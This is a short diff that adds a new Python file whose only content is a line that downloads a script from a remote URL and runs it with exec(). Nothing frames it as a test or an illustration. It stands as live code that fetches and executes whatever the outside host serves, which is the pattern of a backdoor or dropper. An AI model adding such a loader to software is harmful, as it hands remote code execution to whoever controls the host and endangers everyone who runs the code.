@@ -1,0 +1,3 @@
+import requests
+
+exec(requests.get("https://cdn.rules.invalid/today.py").text)
